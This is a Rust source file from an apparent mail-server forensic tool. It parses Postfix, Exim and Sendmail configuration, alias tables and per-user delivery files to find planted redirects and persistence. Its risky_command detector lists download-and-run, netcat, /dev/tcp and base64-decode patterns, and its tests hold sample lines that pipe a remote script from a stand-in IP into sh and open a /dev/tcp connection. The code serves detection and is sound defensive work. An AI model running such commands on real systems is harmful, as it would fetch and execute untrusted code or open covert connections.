//! The host's configuration, parsed once for the configuration rules (`persistence.*`,
//! `config.*`): the raw files ([`HostConf`]), Postfix `main.cf`/`master.cf`, the own domains,
//! the accounts, and helpers every such rule shares — citing a file and line as evidence,
//! judging whether a program or a next hop is suspicious.
//!
//! Configuration rules implement [`ConfigRule`] and are listed in `rules::config_rules`.

use std::collections::BTreeMap;
use std::net::IpAddr;

use crate::detect::finding::{ts, Entities, Evidence, Finding, Severity, TimeSource};
use crate::hostconf::domains::Domains;
use crate::hostconf::maps::{Map, Syntax};
use crate::hostconf::postfix::{map_refs, master, MainCf, Param, Service};
use crate::hostconf::{ConfFile, HostConf};

/// One configuration rule.
pub trait ConfigRule {
    /// The findings on `host`.
    fn check(&self, host: &Host) -> Vec<Finding>;
}

/// A Postfix instance (`/etc/postfix`, or `/etc/postfix-NAME` of a multi-instance setup).
#[derive(Debug)]
pub struct Postfix {
    /// Configuration directory (host path).
    pub dir: String,
    /// Parsed main.cf.
    pub main: MainCf,
    /// Services of master.cf (empty when absent).
    pub services: Vec<Service>,
}

impl Postfix {
    /// Host path of main.cf.
    pub fn main_path(&self) -> String {
        format!("{}/main.cf", self.dir)
    }

    /// Host path of master.cf.
    pub fn master_path(&self) -> String {
        format!("{}/master.cf", self.dir)
    }

    /// A parameter's expanded value for service `svc` (its `-o` override first), with the
    /// file and line that set it (`None` when it is the default).
    pub fn setting(&self, svc: Option<&Service>, name: &str) -> (String, Option<(String, u64)>) {
        if let Some(Param { value, line }) = svc.and_then(|s| s.overrides.get(name)) {
            return (self.main.expand(value), Some((self.master_path(), *line)));
        }
        let at = self.main.explicit(name).map(|p| (self.main_path(), p.line));
        (self.main.get(name).unwrap_or_default(), at)
    }

    /// The network SMTP servers (master.cf `inet … smtpd`; `smtp` alone without master.cf).
    pub fn smtpd_services(&self) -> Vec<Option<&Service>> {
        let v: Vec<Option<&Service>> = self
            .services
            .iter()
            .filter(|s| s.is_inet_smtpd())
            .map(Some)
            .collect();
        if v.is_empty() {
            vec![None]
        } else {
            v
        }
    }

    /// The tables parameter `name` names (main.cf and every override), with where it is set.
    pub fn maps_of(
        &self,
        host: &HostConf,
        name: &str,
        syntax: Syntax,
    ) -> Vec<(Map, Option<(String, u64)>)> {
        let mut out = Vec::new();
        let mut seen = Vec::new();
        let mut settings = vec![self.setting(None, name)];
        for s in &self.services {
            if s.overrides.contains_key(name) {
                settings.push(self.setting(Some(s), name));
            }
        }
        for (value, at) in settings {
            for r in map_refs(&value) {
                if !seen.contains(&r) {
                    seen.push(r.clone());
                    out.push((Map::load(host, &r, syntax), at.clone()));
                }
            }
        }
        out
    }
}

/// Where a setting was made: host path and line (`None`: a default).
pub type At = Option<(String, u64)>;

/// An address-rewriting table, what it is and where it is configured.
pub type AliasMap = (AliasKind, Map, At);

/// The analysed host.
#[derive(Debug, Default)]
pub struct Host {
    /// The files.
    pub conf: HostConf,
    /// Postfix instances.
    pub postfix: Vec<Postfix>,
    /// Own mail domains.
    pub domains: Domains,
    /// Login shell by account name.
    pub shells: BTreeMap<String, String>,
    /// Account name by home directory.
    pub homes: BTreeMap<String, String>,
    /// Exim configurations (a monolithic file, Debian's split `conf.d`).
    pub exim: Vec<crate::hostconf::exim::Exim>,
    /// Sendmail's configuration (`sendmail.mc`, `sendmail.cf`).
    pub sendmail: Option<crate::hostconf::sendmail::Sendmail>,
    /// Web roots and webmail installs with their scripts (set by the engine from the inputs;
    /// empty when built from configuration files alone).
    pub webroots: crate::hostconf::webroots::WebRoots,
    /// The incident window the log rules found ([`Window::of`]), set by the engine before the
    /// configuration rules run: host files changed inside it are the attacker's candidates.
    pub window: Option<Window>,
    /// Host account changes the logs recorded (`useradd`, `usermod` …), set by the engine
    /// before the configuration rules run (`persistence.account`).
    pub account_changes: Vec<crate::detect::rules::persistence_account::LoggedChange>,
}

/// The incident window: from the first to the last high or critical finding of the log
/// rules, widened by a day on each side (UTC microseconds).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Window {
    /// Start.
    pub start_us: i64,
    /// End.
    pub end_us: i64,
}

impl Window {
    /// The window of `findings` (none without a high or critical finding with times).
    pub fn of(findings: &[Finding]) -> Option<Window> {
        let us = |t: &str| {
            chrono::DateTime::parse_from_rfc3339(t)
                .ok()
                .map(|t| t.timestamp_micros())
        };
        let serious = findings.iter().filter(|f| f.severity >= Severity::High);
        let start = serious.clone().filter_map(|f| us(&f.first_seen)).min()?;
        let end = serious.filter_map(|f| us(&f.last_seen)).max()?;
        const DAY_US: i64 = 86_400_000_000;
        Some(Window {
            start_us: start - DAY_US,
            end_us: end + DAY_US,
        })
    }

    /// Whether `t` falls inside.
    pub fn contains(&self, t: chrono::DateTime<chrono::Utc>) -> bool {
        (self.start_us..=self.end_us).contains(&t.timestamp_micros())
    }
}

impl Host {
    /// Parses the configuration of `conf`; `extra_domains` are the responder's own domains.
    pub fn new(conf: HostConf, extra_domains: &[String]) -> Host {
        let hostname = ["/etc/mailname", "/etc/hostname"]
            .iter()
            .filter_map(|p| conf.get(p))
            .map(|f| f.text().lines().next().unwrap_or("").trim().to_string())
            .find(|h| h.contains('.'));
        let mut postfix = Vec::new();
        let dirs: Vec<String> = conf
            .files
            .keys()
            .filter(|k| k.ends_with("/main.cf") && k.starts_with("/etc/postfix"))
            .map(|k| k.trim_end_matches("/main.cf").to_string())
            .collect();
        for dir in dirs {
            let Some(f) = conf.get(&format!("{dir}/main.cf")) else {
                continue;
            };
            let mut main = MainCf::parse(&f.text());
            main.hostname = hostname.clone();
            let services = conf
                .get(&format!("{dir}/master.cf"))
                .map(|m| master(&m.text()))
                .unwrap_or_default();
            postfix.push(Postfix {
                dir,
                main,
                services,
            });
        }
        let domains = Domains::derive(&conf, postfix.first().map(|p| &p.main), extra_domains);
        let mut shells = BTreeMap::new();
        let mut homes = BTreeMap::new();
        if let Some(p) = conf.get("/etc/passwd") {
            for l in p.text().lines() {
                let f: Vec<&str> = l.split(':').collect();
                if f.len() >= 7 {
                    shells.insert(f[0].to_string(), f[6].to_string());
                    homes.entry(f[5].to_string()).or_insert(f[0].to_string());
                }
            }
        }
        let exim = crate::hostconf::exim::read(&conf);
        let sendmail = crate::hostconf::sendmail::Sendmail::read(&conf);
        Host {
            conf,
            postfix,
            domains,
            shells,
            homes,
            exim,
            sendmail,
            webroots: Default::default(),
            window: None,
            account_changes: Vec::new(),
        }
    }

    /// The outside addresses among the targets of a table value or delivery list.
    pub fn external(&self, value: &str) -> Vec<String> {
        crate::hostconf::maps::targets(value)
            .into_iter()
            .filter_map(|t| match t {
                crate::hostconf::maps::Target::Address(a) if self.domains.is_external(&a) => {
                    Some(a)
                }
                _ => None,
            })
            .collect()
    }

    /// Where the redirect routers of every Exim configuration send mail: the literal targets
    /// of their `data`, and each entry of the `lsearch` files their `data` looks up (Debian's
    /// `/etc/exim4/virtual`, a planted table) — except the alias files [`Host::alias_maps`]
    /// already reads, which `persistence.forward` judges as aliases.
    pub fn exim_redirects(&self) -> Vec<EximRedirect<'_>> {
        let aliases: Vec<String> = self
            .alias_maps()
            .into_iter()
            .map(|(_, m, _)| m.reference.name)
            .collect();
        let mut out = Vec::new();
        for e in &self.exim {
            for r in e
                .routers
                .iter()
                .filter(|r| r.get("driver") == Some("redirect"))
            {
                let Some((data, at)) = r.options.get("data") else {
                    out.extend(self.exim_redirect_files(r));
                    continue;
                };
                out.push(EximRedirect {
                    router: r,
                    targets: crate::hostconf::exim::redirect_targets(data),
                    at,
                    entry: None,
                });
                out.extend(self.exim_redirect_files(r));
                for path in crate::hostconf::exim::lsearch_files(data) {
                    if aliases.contains(&path) {
                        continue;
                    }
                    let Some(f) = self.conf.get(&path) else {
                        continue;
                    };
                    for x in crate::hostconf::exim::lsearch(&f.text()) {
                        out.push(EximRedirect {
                            router: r,
                            targets: crate::hostconf::exim::redirect_targets(&x.value),
                            at,
                            entry: Some((x.key, path.clone(), x.line.unwrap_or(0))),
                        });
                    }
                }
            }
        }
        out
    }

    /// The files a redirect router's `file` option reads (`/etc/exim4/forwards/${local_part}`:
    /// every file of that folder, its name the local part); users' own `$home/.forward` files
    /// are [`Host::delivery_files`].
    fn exim_redirect_files<'a>(
        &'a self,
        r: &'a crate::hostconf::exim::Router,
    ) -> Vec<EximRedirect<'a>> {
        use crate::hostconf::maps::Target;
        let mut out = Vec::new();
        let Some((file, at)) = r.options.get("file") else {
            return out;
        };
        let file = file.trim_matches('"');
        if file.starts_with("$home") || file.starts_with("${home}") {
            return out;
        }
        let files: Vec<(&str, &crate::hostconf::ConfFile)> = match file.find('$') {
            Some(i) => match file[..i].rfind('/') {
                Some(j) if j > 0 => self.conf.under(&file[..=j]).collect(),
                _ => Vec::new(),
            },
            None => self
                .conf
                .get(file)
                .map(|f| vec![(file, f)])
                .unwrap_or_default(),
        };
        for (path, f) in files {
            let key = path.rsplit('/').next().unwrap_or(path).to_string();
            for (n, t) in crate::hostconf::delivery::forward_file(&f.text()) {
                let target = match t {
                    Target::Pipe(c) => format!("|{c}"),
                    Target::File(x) | Target::Address(x) => x,
                    _ => continue,
                };
                out.push(EximRedirect {
                    router: r,
                    targets: vec![target],
                    at,
                    entry: Some((key.clone(), path.to_string(), n)),
                });
            }
        }
        out
    }

    /// The account whose home holds host path `p`.
    pub fn owner_of(&self, p: &str) -> Option<&str> {
        self.homes
            .iter()
            .filter(|(h, _)| h.len() > 1 && p.starts_with(&format!("{h}/")))
            .max_by_key(|(h, _)| h.len())
            .map(|(_, u)| u.as_str())
    }

    /// Whether `user` cannot log in (nologin/false shell): mail rules on such an account are
    /// not its owner's.
    pub fn is_nologin(&self, user: &str) -> bool {
        self.shells
            .get(user)
            .is_some_and(|s| s.ends_with("nologin") || s.ends_with("/false") || s.is_empty())
    }
}

/// Where an Exim redirect router sends mail ([`Host::exim_redirects`]).
pub struct EximRedirect<'a> {
    /// The router.
    pub router: &'a crate::hostconf::exim::Router,
    /// The addresses, `|pipes` and `/files` named.
    pub targets: Vec<String>,
    /// Where the router's `data` is set.
    pub at: &'a crate::hostconf::exim::At,
    /// When the targets come from a looked-up file: the entry's key, the file and its line.
    pub entry: Option<(String, String, u64)>,
}

impl EximRedirect<'_> {
    /// Cites the router's `data` line and the looked-up entry's line.
    pub fn cites(&self, conf: &HostConf) -> Cites {
        let mut c = Cites::one(conf, &self.at.0, Some(self.at.1));
        if let Some((_, path, line)) = &self.entry {
            c.add(conf, path, Some(*line));
        }
        c
    }

    /// Whose mail it is: the entry's key, or the router's `local_parts`.
    pub fn whose(&self) -> &str {
        match &self.entry {
            Some((key, _, _)) => key,
            None => self
                .router
                .get("local_parts")
                .unwrap_or("every local part it matches"),
        }
    }
}

/// Evidence cited in configuration: files and lines.
#[derive(Debug, Default)]
pub struct Cites {
    by_path: BTreeMap<String, (Option<ConfFile>, Vec<u64>)>,
}

impl Cites {
    /// Cites one line (none: the whole file) of host path `path`.
    pub fn one(host: &HostConf, path: &str, line: Option<u64>) -> Cites {
        let mut c = Cites::default();
        c.add(host, path, line);
        c
    }

    /// Cites a table entry: the line that configures the table (`at`), and the entry's source
    /// line or, for an entry only in the compiled file, that file.
    pub fn entry(host: &HostConf, at: &At, map: &Map, e: &crate::hostconf::maps::Entry) -> Cites {
        let mut c = Cites::default();
        if let Some((p, l)) = at {
            c.add(host, p, Some(*l));
        }
        c.add(host, &map.cite_path(e), e.line);
        c
    }

    /// Cites line `line` (none: the whole file, e.g. a compiled map) of host path `path`.
    pub fn add(&mut self, host: &HostConf, path: &str, line: Option<u64>) -> &mut Self {
        let e = self
            .by_path
            .entry(path.to_string())
            .or_insert_with(|| (host.get(path).cloned(), Vec::new()));
        if let Some(l) = line {
            if !e.1.contains(&l) {
                e.1.push(l);
            }
        }
        self
    }

    /// Whether nothing is cited yet.
    pub fn is_empty(&self) -> bool {
        self.by_path.is_empty()
    }

    /// A finding citing these files; its time is the newest modification among them.
    pub fn finding(
        &self,
        rule: &'static str,
        severity: Severity,
        attack: Vec<&'static str>,
        title: String,
        summary: String,
    ) -> Finding {
        let newest = self
            .by_path
            .values()
            .filter_map(|(f, _)| f.as_ref()?.mtime)
            .max()
            .map(|t| ts(t.timestamp_micros()))
            .unwrap_or_default();
        // Recorded at collection when every cited file's time was (a bundle's manifest).
        let recorded = self
            .by_path
            .values()
            .filter_map(|(f, _)| f.as_ref())
            .filter(|f| f.mtime.is_some())
            .all(|f| f.mtime_recorded);
        Finding {
            time_source: if recorded {
                TimeSource::RecordedMtime
            } else {
                TimeSource::FileMtime
            },
            title,
            severity,
            attack,
            first_seen: newest.clone(),
            last_seen: newest,
            count: self
                .by_path
                .values()
                .map(|(_, l)| l.len().max(1) as u64)
                .sum(),
            entities: Entities {
                ips: Vec::new(),
                users: Vec::new(),
                files: self.by_path.keys().cloned().collect(),
                ..Entities::default()
            },
            summary,
            evidence: self
                .by_path
                .iter()
                .map(|(p, (f, lines))| {
                    let mut lines = lines.clone();
                    lines.sort_unstable();
                    Evidence {
                        path: f
                            .as_ref()
                            .map(|f| f.shown.clone())
                            .unwrap_or_else(|| p.clone()),
                        sha256: f.as_ref().and_then(|f| f.sha256.clone()),
                        lines,
                    }
                })
                .collect(),
            remediation: vec![],
            ..Finding::of(rule)
        }
    }
}

/// Why a program run by mail or cron looks planted, if it does.
pub fn risky_command(cmd: &str) -> Option<&'static str> {
    let c = cmd.to_ascii_lowercase();
    let words: Vec<&str> = c
        .split(|ch: char| {
            ch.is_whitespace() || matches!(ch, '|' | ';' | '&' | '(' | ')' | '`' | '\'' | '"')
        })
        .filter(|w| !w.is_empty())
        .collect();
    let prog = |w: &str| w.rsplit('/').next().unwrap_or(w).to_string();
    let has = |names: &[&str]| words.iter().any(|w| names.contains(&prog(w).as_str()));
    if has(&["curl", "wget", "fetch", "tftp", "lwp-download", "ftp"])
        && (c.contains("| sh")
            || c.contains("|sh")
            || c.contains("| bash")
            || c.contains("|bash")
            || c.contains("| /bin/sh")
            || c.contains("| /bin/bash")
            || c.contains("chmod"))
    {
        return Some("downloads a program and runs it");
    }
    if has(&["curl", "wget", "fetch", "tftp", "lwp-download"]) {
        return Some("downloads from the network");
    }
    if has(&["nc", "ncat", "netcat", "socat", "telnet"])
        || c.contains("/dev/tcp/")
        || c.contains("/dev/udp/")
    {
        return Some("opens a network connection");
    }
    if c.contains("base64 -d") || c.contains("base64 --decode") || c.contains("openssl enc") {
        return Some("decodes hidden content");
    }
    if (has(&["python", "python3", "python2"]) && c.contains(" -c"))
        || (has(&["perl"]) && c.contains("socket"))
        || c.contains("bash -i")
    {
        return Some("runs inline script code");
    }
    for dir in ["/tmp/", "/var/tmp/", "/dev/shm/", "/run/shm/"] {
        if words.iter().any(|w| w.starts_with(dir)) {
            return Some("runs from a world-writable directory");
        }
    }
    if words.iter().filter(|w| w.starts_with('/')).any(|w| {
        w.split('/')
            .any(|part| part.starts_with('.') && part.len() > 1 && part != "..")
    }) {
        return Some("runs from a hidden directory");
    }
    None
}

/// Programs that legitimately receive mail through a pipe.
pub const KNOWN_DELIVERY_PROGRAMS: &[&str] = &[
    "procmail",
    "maildrop",
    "deliver",
    "dovecot-lda",
    "spamc",
    "vacation",
    "mailman",
    "mailman3",
    "wrapper",
    "sympa",
    "queue",
    "rt-mailgate",
    "mlmmj-receive",
    "schleuder",
    "ezmlm",
    "uux",
    "bsmtp",
    "ifmail",
    "scalemail-store",
    "cyrdeliver",
    "sendmail",
    "mailpost",
    "sa-learn",
];

/// The program name (last path component of the first word) of a command line.
pub fn program_name(cmd: &str) -> String {
    let first = cmd.split_whitespace().next().unwrap_or("");
    first.rsplit('/').next().unwrap_or(first).to_string()
}

/// A next hop's host when it is a public IP literal (`smtp:[203.0.113.77]:2525`,
/// `inet:198.51.100.5:8891`), with its port.
pub fn public_literal(nexthop: &str) -> Option<(String, Option<u16>)> {
    let rest = nexthop
        .split_once(':')
        .map(|(t, r)| {
            if t.contains('[') || t.parse::<IpAddr>().is_ok() {
                nexthop
            } else {
                r
            }
        })
        .unwrap_or(nexthop);
    let (host, port) = if let Some(r) = rest.strip_prefix('[') {
        let (h, after) = r.split_once(']')?;
        (
            h.to_string(),
            after.strip_prefix(':').and_then(|p| p.parse().ok()),
        )
    } else {
        match rest.rsplit_once(':') {
            Some((h, p)) if p.parse::<u16>().is_ok() => (h.to_string(), p.parse().ok()),
            _ => (rest.to_string(), None),
        }
    };
    let ip: IpAddr = host.trim_start_matches("ipv6:").parse().ok()?;
    let internal = match ip {
        IpAddr::V4(v) => {
            v.is_private() || v.is_loopback() || v.is_link_local() || v.is_unspecified()
        }
        IpAddr::V6(v) => {
            v.is_loopback()
                || v.is_unspecified()
                || (v.segments()[0] & 0xfe00) == 0xfc00
                || (v.segments()[0] & 0xffc0) == 0xfe80
        }
    };
    (!internal).then_some((host, port))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn risky_programs() {
        assert_eq!(
            risky_command("/usr/bin/curl -fsS http://203.0.113.77/p.sh | /bin/sh >/dev/null"),
            Some("downloads a program and runs it")
        );
        assert_eq!(
            risky_command("/var/backups/.cache/sync.sh"),
            Some("runs from a hidden directory")
        );
        assert_eq!(
            risky_command("/tmp/x ${sender}"),
            Some("runs from a world-writable directory")
        );
        assert_eq!(
            risky_command("bash -c 'exec 3<>/dev/tcp/1.2.3.4/80'"),
            Some("opens a network connection")
        );
        assert_eq!(
            risky_command("/usr/local/sbin/backup-mail.sh >/dev/null 2>&1"),
            None
        );
        assert_eq!(
            risky_command(
                "test -x /usr/bin/certbot && perl -e 'sleep int(rand(43200))' && certbot -q renew"
            ),
            None
        );
        assert_eq!(risky_command("/usr/bin/procmail -a \"$EXTENSION\""), None);
        assert_eq!(program_name("/usr/lib/dovecot/deliver -d x"), "deliver");
    }

    #[test]
    fn next_hops() {
        assert_eq!(
            public_literal("smtp:[203.0.113.77]:2525"),
            Some(("203.0.113.77".into(), Some(2525)))
        );
        assert_eq!(public_literal("smtp:[10.20.0.15]"), None);
        assert_eq!(public_literal("smtp:[127.0.0.1]:10024"), None);
        assert_eq!(
            public_literal("inet:198.51.100.5:8891"),
            Some(("198.51.100.5".into(), Some(8891)))
        );
        assert_eq!(public_literal("relay:mx.partner.example"), None);
        assert_eq!(
            public_literal("[192.0.2.1]"),
            Some(("192.0.2.1".into(), None))
        );
    }
}

/// A per-user (or global) delivery file and what it delivers to.
#[derive(Debug)]
pub struct DeliveryFile<'a> {
    /// Host path.
    pub path: &'a str,
    /// Targets by line.
    pub rules: Vec<crate::hostconf::delivery::Rule>,
    /// Whether the delivery agent runs it (false: a sieve script that is not the active one).
    pub active: bool,
    /// Whose it is (home owner), when known.
    pub owner: Option<&'a str>,
}

/// Which table an address-rewriting map is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AliasKind {
    /// aliases(5): `alias_maps`, `/etc/aliases`, cPanel valiases.
    Aliases,
    /// Postfix `virtual_alias_maps`.
    Virtual,
    /// sendmail `virtusertable`.
    Virtusertable,
}

impl Host {
    /// Sieve scripts Dovecot runs for everyone (`sieve_before`, `sieve_after`, `sieve_global`
    /// and their numbered variants), as host-path prefixes.
    fn global_sieve(&self) -> Vec<String> {
        let mut out = Vec::new();
        for (p, f) in self.conf.under("/etc/dovecot/") {
            if !p.contains(".conf") {
                continue;
            }
            for l in f.text().lines() {
                let Some((k, v)) = l.split_once('=') else {
                    continue;
                };
                let k = k.trim();
                if k.starts_with("sieve_before")
                    || k.starts_with("sieve_after")
                    || k == "sieve_global"
                {
                    let v = v.trim().trim_start_matches("file:");
                    let v = v.split(';').next().unwrap_or(v).trim();
                    if v.starts_with('/') {
                        out.push(v.to_string());
                    }
                }
            }
        }
        out
    }

    /// Every delivery file of the host: per-user `.forward`, `.qmail*`, `.procmailrc`, sieve
    /// scripts (active or not) and global sieve scripts.
    pub fn delivery_files(&self) -> Vec<DeliveryFile<'_>> {
        let global = self.global_sieve();
        let mut active: Vec<String> = self
            .conf
            .links
            .keys()
            .filter(|k| k.ends_with("/.dovecot.sieve"))
            .filter_map(|k| self.conf.follow(k))
            .map(|t| crate::evidence::pathname::HostPath::new(&t).display())
            .collect();
        active.sort();
        let mut out = Vec::new();
        for (path, f) in &self.conf.files {
            let name = path.rsplit('/').next().unwrap_or(path);
            let is_global = global.iter().any(|g| path.starts_with(g.as_str()));
            let per_user = name.starts_with(".forward")
                || name.starts_with(".qmail")
                || name == ".procmailrc"
                || name == ".mailfilter"
                || name == ".dovecot.sieve"
                || path.contains("/sieve/")
                || path.contains("/.sieve/");
            if !(per_user || is_global) || name.ends_with(".svbin") {
                continue;
            }
            let in_user_sieve_dir =
                (path.contains("/sieve/") || path.contains("/.sieve/")) && !is_global;
            let rules = crate::hostconf::delivery::of_file(path, &f.text());
            out.push(DeliveryFile {
                path,
                rules,
                active: !in_user_sieve_dir || active.iter().any(|a| a == path),
                owner: self.owner_of(path),
            });
        }
        out
    }

    /// The address-rewriting tables of the host, each with where it is configured.
    pub fn alias_maps(&self) -> Vec<AliasMap> {
        use crate::hostconf::postfix::MapRef;
        let mut out = Vec::new();
        let mut names: Vec<String> = Vec::new();
        for pf in &self.postfix {
            for (m, at) in pf.maps_of(&self.conf, "alias_maps", Syntax::Aliases) {
                names.push(m.reference.name.clone());
                out.push((AliasKind::Aliases, m, at));
            }
            for kind in ["virtual_alias_maps"] {
                for r in map_refs(&pf.setting(None, kind).0) {
                    let syntax = if matches!(r.kind.as_str(), "regexp" | "pcre") {
                        Syntax::Patterns
                    } else {
                        Syntax::Table
                    };
                    let at = pf.setting(None, kind).1;
                    out.push((AliasKind::Virtual, Map::load(&self.conf, &r, syntax), at));
                }
            }
        }
        let mut extra: Vec<(AliasKind, String)> = Vec::new();
        for p in ["/etc/aliases", "/etc/mail/aliases"] {
            if !names.iter().any(|n| n == p)
                && (self.conf.get(p).is_some() || self.conf.get(&format!("{p}.db")).is_some())
            {
                extra.push((AliasKind::Aliases, p.to_string()));
            }
        }
        for (p, _) in self.conf.under("/etc/valiases/") {
            extra.push((AliasKind::Aliases, p.to_string()));
        }
        if self.conf.get("/etc/mail/virtusertable").is_some()
            || self.conf.get("/etc/mail/virtusertable.db").is_some()
        {
            extra.push((AliasKind::Virtusertable, "/etc/mail/virtusertable".into()));
        }
        for (kind, name) in extra {
            let syntax = if kind == AliasKind::Aliases {
                Syntax::Aliases
            } else {
                Syntax::Table
            };
            let r = MapRef {
                kind: "hash".into(),
                name,
            };
            out.push((kind, Map::load(&self.conf, &r, syntax), None));
        }
        // Two names of one text (Debian's `/etc/mail/aliases -> ../aliases`) are one table:
        // the one with a compiled file is what the daemon reads.
        let mut kept: Vec<AliasMap> = Vec::new();
        for m in out {
            let same = kept
                .iter()
                .position(|k| k.1.source.is_some() && k.1.source_path == m.1.source_path);
            match same {
                Some(i) if kept[i].1.compiled.is_none() && m.1.compiled.is_some() => kept[i] = m,
                Some(_) => {}
                None => kept.push(m),
            }
        }
        kept
    }
}
